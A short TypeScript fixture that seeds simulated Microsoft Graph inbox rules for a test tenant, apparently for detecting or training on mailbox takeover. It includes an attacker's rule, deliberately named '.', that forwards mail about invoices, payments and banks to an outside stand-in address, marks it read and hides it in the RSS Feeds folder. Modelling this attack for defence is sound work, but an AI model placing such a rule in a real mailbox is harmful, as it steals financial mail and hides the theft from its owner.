import { takenOver } from './takeover.ts';

/** Lists the inbox rules of a person in a new tenant, as Graph does: one that everybody has, and the attacker's. */
export const seedInboxRules = (id: string) => [
  ...(id === takenOver ? [forwarding] : []),
  rule('AQAAAJ5dZp8=', 'Newsletters', 2, {
    conditions: { senderContains: ['newsletter'] },
    actions: { moveToFolder: 'AQMkADNewsletters', stopProcessingRules: true },
  }),
];

const rule = (id: string, displayName: string, sequence: number, details: Readonly<Record<string, unknown>>) => ({
  id,
  displayName,
  sequence,
  isEnabled: true,
  hasError: false,
  isReadOnly: false,
  ...details,
});

/** Named as attackers name theirs, so that it is overlooked. */
const forwarding = rule('AQAAAJ5dZqA=', '.', 1, {
  conditions: { subjectContains: ['invoice', 'payment', 'bank'] },
  actions: {
    forwardTo: [{ emailAddress: { name: 'archive', address: 'archive@mailbox-sync.example' } }],
    markAsRead: true,
    moveToFolder: 'AQMkADRssFeeds',
    stopProcessingRules: true,
  },
});
